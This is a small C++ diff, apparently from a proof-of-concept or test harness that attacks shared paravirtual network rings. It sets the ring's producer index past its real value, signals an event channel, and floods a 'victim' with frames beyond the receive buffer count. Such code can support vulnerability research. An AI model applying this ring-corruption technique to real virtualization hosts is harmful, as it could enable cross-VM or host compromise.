@@ -167,9 +167,11 @@ template <typename Ring>
 void jump(Ring& ring, evtchn_port_t port, RING_IDX by) {
     __atomic_store_n(&ring.sring->req_prod, ring.req_prod_pvt + by, __ATOMIC_SEQ_CST);
     notify_port(port);
-    // The receive ring is looked at when there is something to receive.
+    // The receive ring is looked at when what was taken from it before has been used.
     make_frame(*abuse.frame, abuse.victim.offers().mac, abuse.partner.offers().mac, {}, 100, 3);
-    abuse.partner.send(*abuse.frame);
+    for (unsigned i = 0; i < rx_buffers + 8 && !abuse.stopped(); ++i) {
+        abuse.partner.send(*abuse.frame);
+    }
 }
 
 void jumps() {
